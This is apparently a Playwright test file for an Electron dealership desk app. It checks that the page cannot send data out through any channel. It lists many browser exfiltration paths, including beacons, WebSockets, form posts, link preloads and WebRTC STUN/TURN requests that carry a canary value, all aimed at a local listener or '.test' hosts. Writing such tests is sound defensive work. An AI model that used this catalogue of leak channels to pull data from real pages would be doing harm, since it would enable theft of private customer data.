import { once } from 'node:events'
import { readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { openExitListener, type ExitHost } from '../support/faults/exit-listener.ts'
import type { DeskWindow } from '../support/page/window.ts'
import { expect, test } from './window.ts'

/* The page holds every customer of the dealership, so no part of the page may send a byte to anybody. */

/** The name and the user name that a page which was taken over would send. */
const CANARY = 'canary-harriet-quill'

type NetLogFile = {
  readonly constants: { readonly logEventTypes: Readonly<Record<string, number>> }
  readonly events: readonly { readonly type: number; readonly params?: Readonly<Record<string, unknown>> }[]
}

/** Runs `work` and returns the hosts that Chromium looked up and the addresses to which it connected meanwhile. */
async function networkUseOf({ app }: DeskWindow, folder: string, work: () => Promise<void>) {
  const file = join(folder, 'net-log.json')
  await app.evaluate(({ session }, path) => session.defaultSession.netLog.startLogging(path), file)
  await work()
  await app.evaluate(({ session }) => session.defaultSession.netLog.stopLogging())
  const { constants, events } = JSON.parse(readFileSync(file, 'utf8')) as NetLogFile
  const valuesOf = (type: string, name: string) => [
    ...new Set(
      events.flatMap(({ type: number, params }) => {
        const value = number === constants.logEventTypes[type] ? params?.[name] : undefined
        return typeof value === 'string' ? [value] : []
      }),
    ),
  ]
  return {
    names: valuesOf('HOST_RESOLVER_MANAGER_REQUEST', 'host'),
    addresses: [...valuesOf('TCP_CONNECT_ATTEMPT', 'address'), ...valuesOf('UDP_CONNECT', 'address')],
  }
}

/** Runs in the page: asks the TURN and STUN servers of a peer connection for their candidates until they are complete. */
async function gather({ host, udp, tcp, canary }: ExitHost & { readonly canary: string }): Promise<string> {
  const credential = { username: `${canary} (804) 555-0142`, credential: 'x' }
  const peer = new RTCPeerConnection({
    iceServers: [
      { urls: `turn:${host}:${udp}?transport=udp`, ...credential },
      { urls: `turn:${host}:${tcp}?transport=tcp`, ...credential },
      { urls: `stun:${host}:${udp}` },
      { urls: `stun:${canary}.test:${udp}` },
      { urls: `turn:${canary}.test:${udp}?transport=udp`, ...credential },
    ],
  })
  const complete = new Promise<void>((resolve) => {
    peer.addEventListener('icegatheringstatechange', () => {
      if (peer.iceGatheringState === 'complete') resolve()
    })
  })
  peer.createDataChannel('x')
  await peer.setLocalDescription(await peer.createOffer())
  await complete
  peer.close()
  return peer.iceGatheringState
}

/** Runs in the page: tries each exit that a script has, and returns the outcome of each by its name. */
async function tryExits({
  host,
  tcp,
  canary,
}: ExitHost & { readonly canary: string }): Promise<Record<string, string>> {
  const outcomes: Record<string, string> = {}
  const address = (name: string, scheme = 'http') => `${scheme}://${host}:${tcp}/${name}-${canary}`
  const outcomeOf = async (work: () => unknown) => {
    try {
      const value = await work()
      return value === undefined || value === null ? 'none' : 'made'
    } catch (error) {
      return error instanceof Error ? error.name : 'thrown'
    }
  }
  for (const rel of [
    'preconnect',
    'dns-prefetch',
    'prefetch',
    'preload',
    'modulepreload',
    'icon',
    'manifest',
    'prerender',
  ]) {
    for (const href of [address(rel), `http://${rel}-${canary}.test/`]) {
      const link = Object.assign(document.createElement('link'), { rel, href })
      if (rel === 'preload') link.as = 'image'
      document.head.append(link)
    }
  }
  const exits: Readonly<Record<string, () => unknown>> = {
    img: () => (new Image().src = address('img')),
    ping: () => {
      const link = Object.assign(document.createElement('a'), { href: '#ping', ping: address('ping') })
      document.body.append(link)
      link.click()
    },
    beacon: () => navigator.sendBeacon(address('beacon'), canary) || null,
    websocket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket(address('websocket', 'ws'))
        socket.addEventListener('open', () => resolve('open'))
        socket.addEventListener('error', () => reject(new Error('closed')))
      }),
    eventsource: () =>
      new Promise((resolve, reject) => {
        const source = new EventSource(address('eventsource'))
        source.addEventListener('open', () => resolve('open'))
        source.addEventListener('error', () => {
          source.close()
          reject(new Error('closed'))
        })
      }),
    audio: () => new Audio(address('audio')).play(),
    worker: () => new Worker(address('worker')),
    'shared worker': () => new SharedWorker(address('shared-worker')),
    'service worker': () => navigator.serviceWorker.register('/sw.js'),
    form: () => {
      const form = Object.assign(document.createElement('form'), { action: address('form'), method: 'post' })
      document.body.append(form)
      form.submit()
    },
    'form in a new window': () => {
      const form = Object.assign(document.createElement('form'), { action: address('form-blank'), target: '_blank' })
      document.body.append(form)
      form.submit()
    },
    window: () => window.open(address('window')),
    frame: () => {
      const frame = Object.assign(document.createElement('iframe'), { src: address('frame') })
      document.body.append(frame)
    },
    refresh: () => {
      const meta = Object.assign(document.createElement('meta'), {
        httpEquiv: 'refresh',
        content: `0;url=${address('refresh')}`,
      })
      document.head.append(meta)
    },
    webtransport: () => new WebTransport(address('webtransport', 'https')).ready,
    payment: () =>
      new PaymentRequest([{ supportedMethods: address('payment', 'https') }], {
        total: { label: 'x', amount: { currency: 'USD', value: '1' } },
      }).canMakePayment(),
    'speech recognition': () =>
      new Promise((resolve, reject) => {
        const { webkitSpeechRecognition: Recognition } = window as unknown as {
          readonly webkitSpeechRecognition: new () => EventTarget & { start(): void }
        }
        const recognition = new Recognition()
        recognition.addEventListener('start', resolve)
        recognition.addEventListener('error', () => reject(new Error('refused')))
        recognition.start()
      }),
    'remote voices': () => speechSynthesis.getVoices().find((voice) => !voice.localService) ?? null,
    'font of another host': () => new FontFace('x', `url(${address('font')})`).load(),
  }
  const late = new Promise<string>((resolve) => setTimeout(() => resolve('no outcome'), 5_000))
  for (const [name, exit] of Object.entries(exits)) outcomes[name] = await Promise.race([outcomeOf(exit), late])
  return outcomes
}

test('The page reaches no STUN or TURN server, over UDP or TCP, on this PC or elsewhere', async ({ open, profile }) => {
  const listener = await openExitListener()
  const desk = await open()
  const use = await networkUseOf(desk, profile, async () => {
    for (const host of listener.hosts) {
      expect(await desk.page.evaluate(gather, { ...host, canary: CANARY })).toBe('complete')
    }
  })
  await listener.close()
  expect(listener.arrived).toEqual([])
  expect(use.names.filter((name) => name.includes(CANARY))).toEqual([])
})

test('No other exit of the page leads to a byte that leaves', async ({ open, profile }) => {
  const listener = await openExitListener()
  const desk = await open()
  desk.forgive()
  const before = desk.page.url()
  const outcomes: Record<string, string>[] = []
  const use = await networkUseOf(desk, profile, async () => {
    for (const host of listener.hosts) outcomes.push(await desk.page.evaluate(tryExits, { ...host, canary: CANARY }))
  })
  await listener.close()
  expect(listener.arrived).toEqual([])
  // Chromium offers no way to stop this look-up of one session without those of the proxy script.
  expect(use.names.filter((name) => name.includes(CANARY))).toEqual([`http://dns-prefetch-${CANARY}.test`])
  for (const outcome of outcomes) {
    expect(Object.entries(outcome).filter(([, end]) => end === 'no outcome')).toEqual([])
    expect(outcome).toMatchObject({
      websocket: 'Error',
      eventsource: 'Error',
      worker: 'TypeError',
      window: 'none',
      webtransport: 'WebTransportError',
      'speech recognition': 'Error',
      'remote voices': 'none',
    })
  }
  expect(desk.page.url().replace('#ping', '')).toBe(before)
  expect(await desk.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
})

test('The page has no API for the files of this PC', async ({ open }) => {
  const { page } = await open()
  const pickers = await page.evaluate(() =>
    ['showOpenFilePicker', 'showSaveFilePicker', 'showDirectoryPicker'].filter((name) => name in window),
  )
  expect(pickers).toEqual([])
})

test("The desk asks the system's proxy for its provider and for no other host", async ({ open }) => {
  const asked: string[] = []
  const proxy = createServer()
  proxy.on('connect', (request, socket) => {
    asked.push(request.url ?? '')
    socket.end('HTTP/1.1 502 Bad Gateway\r\n\r\n')
  })
  proxy.listen(0, '127.0.0.1')
  await once(proxy, 'listening')
  const { port } = proxy.address() as AddressInfo
  const { page } = await open({
    provider: { url: 'https://provider.lane.test', token: 'token-1' },
    env: { https_proxy: `http://127.0.0.1:${port}`, no_proxy: '' },
  })
  await expect(page.locator('[data-testid="status"]')).toHaveAttribute('data-connection', 'down')
  expect(asked).toContain('provider.lane.test:443')
  expect([...new Set(asked)]).toEqual(['provider.lane.test:443'])
  proxy.close()
})
